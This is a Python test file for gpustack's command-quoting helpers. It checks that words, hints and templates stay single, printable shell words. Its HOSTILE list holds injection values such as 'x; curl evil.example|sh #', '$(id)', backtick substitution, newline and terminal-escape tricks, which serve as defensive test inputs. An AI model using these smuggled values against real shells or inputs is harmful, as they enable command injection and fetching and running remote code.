"""Commands and hints: whatever their words are, each stays one word of the shell, on one line."""

import copy
import pickle
import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpustack.command import NO_HINT, Command, Hint, Prose, Template, join_hints

HOSTILE = (
    "x; curl evil.example|sh #",
    "k2;id",
    "a b",
    "it's",
    '"; id; "',
    "$(id)",
    "`id`",
    "line\nid\n",
    "\x1b]52;c;aWQ=\x07",
    "\u202egnol",
    "-rf",
    "",
    "    # id",
    "back\\slash\\\n",
    "\ud800",
)


@pytest.mark.parametrize("word", HOSTILE)
def test_a_word_of_a_command_stays_one_word(word: str) -> None:
    command = Command("kubectl", "-n", word, "delete", "pod", word, note="if it is not needed")
    assert len(command.splitlines()) == 1
    assert command.isprintable()
    assert command.endswith("    # if it is not needed")
    assert len(shlex.split(command, comments=True)) == 6


@given(st.lists(st.text(st.characters(blacklist_characters="\0", blacklist_categories=["Cs"])), min_size=1, max_size=4))
def test_bash_reads_the_words_back(words: list[str]) -> None:
    printed_text = f"printf '%s\\0' {Command(*words)}"
    process = subprocess.run(["bash", "-c", printed_text], capture_output=True, check=True, timeout=10)
    assert process.stdout.decode().split("\0")[:-1] == words


@pytest.mark.parametrize("word", HOSTILE)
def test_prose_quotes_its_values_and_takes_commands_as_they_are(word: str) -> None:
    hint = Prose("take it out of {}; then: {}", word, Command("systemctl", "restart", word, note="left out"))
    assert hint.isprintable()
    assert shlex.split(hint) == [*["take", "it", "out", "of"], *shlex.split(f"{Command(word)};"), "then:", "systemctl",
                                 "restart", *shlex.split(Command(word))]  # fmt: skip


@pytest.mark.parametrize("word", HOSTILE)
@pytest.mark.parametrize(
    ("line", "count"),
    [
        ("apt-get purge 'nvidia-*-NAME*' \"libnvidia-NAME\"    # NAME stays in a note", 4),
        ("kubeadm kubeconfig user --client-name system:node:NAME >kubelet.conf", 6),
        ("kubectl taint node NAME KEY-", 5),
        ("kubectl -n NAME get pods | grep NAME", 8),
    ],
)
def test_a_word_of_the_catalogue_that_takes_a_name_stays_one_word(line: str, count: int, word: str) -> None:
    filled_text = Template(line).fill({"NAME": word})
    assert filled_text.isprintable()
    assert len(shlex.split(filled_text, comments=True)) == count


def test_a_line_of_the_catalogue_without_names_stays_as_it_is() -> None:
    line = 'etcd() { kubectl exec etcd-NODE -- etcdctl "$@"; }    # NODE: that of the control plane'
    assert Template(line).fill({"HOST": "h1"}) == line


def test_joined_hints_have_their_notes_at_the_end() -> None:
    parts = Command("systemctl", "stop", "a b", note="on that host"), Prose("reboot")
    assert join_hints(*parts, note="or keep it") == "systemctl stop 'a b'; reboot    # on that host; or keep it"
    assert (
        join_hints(Command("journalctl", "-k"), Command("grep", "NVRM"), separator=" | ") == "journalctl -k | grep NVRM"
    )


def test_a_command_is_extended_with_a_note_of_its_own() -> None:
    command = Command("gpustack", "reset", note="all of it").extend("--limit", "k1;id")
    assert (command, command.words[-1]) == ("gpustack reset --limit 'k1;id'", "k1;id")


def test_a_hint_is_frozen_and_can_be_copied() -> None:
    hint: Hint = Command("id", note="who am I")
    with pytest.raises(AttributeError):
        hint.body = "rm"
    assert copy.deepcopy(hint) == pickle.loads(pickle.dumps(hint)) == hint
    assert not NO_HINT
